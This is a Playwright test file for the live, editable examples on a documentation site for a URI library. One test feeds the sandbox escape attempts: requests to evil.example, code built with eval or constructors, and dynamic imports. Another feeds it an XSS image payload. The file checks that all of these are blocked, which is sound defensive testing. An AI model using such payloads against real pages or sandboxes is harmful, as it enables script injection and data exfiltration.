/** The examples of the documentation, made live, run and edited in the page. */

import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { DOCUMENTATION_FILES } from "../.vitepress/pages.ts";
import { shown as shownOnPage } from "../inspect/shown.ts";
import { display } from "../live/display.ts";
import { runsInPage } from "../live/module-names.ts";
import { withoutNotes } from "../live/notes.ts";
import { expectUsableByAll, useBuiltSite } from "./within.ts";

const { within, violationsOn } = useBuiltSite();

const root = fileURLToPath(new URL("../..", import.meta.url));
const examplesIn = (file: string) =>
  [...readFileSync(`${root}/${file}`, "utf8").matchAll(/^```ts\n(.*?)^```$/gms)]
    .map(([, code = ""]) => code)
    .filter(runsInPage);

/** One for the rest, for every example is run by the interpreter in live/examples.site.test.ts; all of them if EVERY_PAGE is set. */
const CHECKED =
  process.env.EVERY_PAGE === undefined
    ? ["docs/lists.md", "docs/iri.md", "docs/ajv.md", "docs/formats.md"]
    : DOCUMENTATION_FILES.filter((file) => file.endsWith(".md") && examplesIn(file).length > 0);

const buttons = (page: Page) => page.getByRole("button", { name: /^Run and edit: / });
const field = (page: Page) => page.getByRole("textbox", { name: "The code of the example" });
const status = (page: Page) => page.locator(".live-status");
/** The notes after the lines, without the mark before each. */
const shown = (page: Page) => page.locator(".live-note").allInnerTexts();

async function openFirst(page: Page): Promise<void> {
  await buttons(page).first().click();
  await expect.poll(() => status(page).innerText()).toMatch(/\d+ values\.$/);
}

describe("a live example", () => {
  it.each(CHECKED)("shows the values that are noted: each of %s", (file) =>
    within(`/${file.replace(/\.md$/, ".html")}`, async (page) => {
      const examples = examplesIn(file);
      await expect.poll(() => buttons(page).count()).toBe(examples.length);
      for (const [at, example] of examples.entries()) {
        await buttons(page).nth(at).click();
        await expect.poll(() => status(page).innerText()).toMatch(/value/);
        const { notes } = withoutNotes(example);
        const noted = notes.map(({ value }) => shownOnPage(display(new Function(`return (${value})`)())));
        const values = await page.locator(".live-value").allInnerTexts();
        expect(
          values.filter((value) => noted.includes(value)),
          example,
        ).toEqual(noted);
        await page.getByRole("button", { name: "Close" }).click();
      }
    }),
  );

  it("is loaded when its button is pressed, by the keyboard, too; Escape closes it", () =>
    within("/docs/surt.html", async (page) => {
      const requests: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      await buttons(page).first().focus();
      // The browser asks for the icon and a font when it has time.
      expect(requests.filter((url) => !/\/icon\.svg$|\.woff2$/.test(url))).toEqual([]);
      await page.keyboard.press("Enter");
      await expect.poll(() => status(page).innerText()).toMatch(/values\.$/);
      expect(requests.filter((url) => url.includes("live.worker")).length).toBe(1);
      await expect.poll(() => page.evaluate("document.activeElement.tagName")).toBe("TEXTAREA");
      await page.keyboard.press("Escape");
      await expect.poll(() => field(page).count()).toBe(0);
      await expect.poll(() => page.evaluate("document.activeElement.textContent")).toMatch(/^Run and edit/);
    }));

  it("shows the values as it is edited, what is logged, and the errors of urikit", () =>
    within("/docs/library.html", async (page) => {
      await openFirst(page);
      await field(page).fill(
        'import { parse } from "urikit";\nconst a: string = "http://a:8080/b";\nparse(a).port;\nconsole.log("c", [1]);',
      );
      await expect.poll(() => shown(page)).toEqual(['"8080"', "c [1]"]);
      await field(page).fill(
        'import { parse } from "urikit";\nparse("http://a/b").path;\nparse("http://a/b c");',
      );
      await expect
        .poll(() => shown(page))
        .toEqual(['"/b"', expect.stringMatching(/^UriSyntaxError: .*a space is not allowed/)]);
      await expect.poll(() => status(page).innerText()).toMatch(/^Line 3: UriSyntaxError/);
      await expect.poll(() => page.locator(".live-place").innerText()).toBe("http://a/b c\n          ^");
      await field(page).fill("1 +");
      await expect.poll(() => status(page).innerText()).toMatch(/^Line 1: SyntaxError/);
      await page.getByRole("button", { name: "Reset" }).click();
      await expect.poll(() => status(page).innerText()).toMatch(/values\.$/);
    }));

  it("is stopped if it does not end", () =>
    within("/docs/library.html", async (page) => {
      await openFirst(page);
      await field(page).fill("1;\nwhile (true) {}");
      await expect.poll(() => status(page).innerText()).toBe("It was stopped after three seconds.");
      await expect.poll(() => shown(page)).toEqual(["1"]);
      await field(page).fill("const f = () => f();\nf();");
      await expect.poll(() => status(page).innerText()).toMatch(/^Line 2: RangeError/);
      await field(page).fill("1 + 1;");
      await expect.poll(() => shown(page)).toEqual(["2"]);
    }));

  it("reaches nothing but the language: no network, no storage, no code made of text", () =>
    within("/docs/library.html", async (page) => {
      await openFirst(page);
      const requests: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      const attempts = [
        "fetch('https://evil.example/')",
        "new XMLHttpRequest()",
        "new WebSocket('wss://evil.example/')",
        "importScripts('https://evil.example/a.js')",
        "globalThis.fetch.call",
        "self.postMessage({ kind: 'done' })",
        "indexedDB.open('a')",
        "caches.open('a')",
        "navigator.userAgent",
        "location.href",
        "new Worker('/a.js')",
        "setTimeout('fetch()')",
        "eval('1')",
        "Function('return 1')()",
        "(() => {}).constructor('return fetch')()",
        "(async () => {}).constructor('return fetch')()",
        "[].map.constructor('return this')()",
        "Object.getPrototypeOf(function* () {}).constructor('return 1')()",
        "window.document.body",
      ];
      await field(page).fill(
        attempts
          .map(
            (attempt) =>
              `try { console.log("reached", ${attempt}); } catch (error) { console.log(error.name); }`,
          )
          .join("\n"),
      );
      await expect.poll(async () => (await shown(page)).length).toBe(attempts.length);
      for (const [at, text] of (await shown(page)).entries())
        expect(text, attempts[at]).toMatch(/^(?:ReferenceError|TypeError|EvalError)$/);
      await field(page).fill("import('https://evil.example/');\nimport { a } from 'https://evil.example/';");
      await expect
        .poll(() => status(page).innerText())
        .toContain('"https://evil.example/" is not in this page');
      expect(requests.filter((url) => url.includes("evil"))).toEqual([]);
    }));

  it("lays nothing out as markup, shows nothing invisible, no more than is read, and is for everyone", () =>
    within("/docs/library.html", async (page) => {
      await openFirst(page);
      await field(page).fill(
        '"<img src=x onerror=alert(1)>";\n"\\u202e\\u0007";\n"x".repeat(1e6);\nArray.from({ length: 1e5 }, (_, at) => at);',
      );
      await expect.poll(async () => (await shown(page)).length).toBe(4);
      await expect.poll(() => page.locator(".live-editor :is(img, script, b)").count()).toBe(0);
      expect((await shown(page))[1]).not.toMatch(/\u202e/);
      expect((await page.locator(".live-editor").innerText()).length).toBeLessThan(10_000);
      await expectUsableByAll(page);
      await expect.poll(() => page.locator(".live-values").innerText()).toMatch(/Line \d+: /);
    }));
});

it("axe-core finds no violation while an example is edited, in both themes", async () => {
  expect(await violationsOn("/docs/surt.html", openFirst)).toEqual([]);
});
